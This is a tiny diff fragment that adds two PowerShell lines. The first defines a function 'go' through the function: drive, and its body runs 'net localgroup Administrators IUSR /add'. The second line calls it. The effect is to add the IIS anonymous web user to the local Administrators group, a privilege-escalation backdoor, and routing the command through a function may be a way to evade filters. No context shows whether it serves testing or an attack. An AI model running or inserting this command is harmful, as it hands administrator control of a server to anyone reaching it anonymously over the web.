@@ -1,0 +1,2 @@
+Set-Content function:go 'net localgroup Administrators IUSR /add'
+go
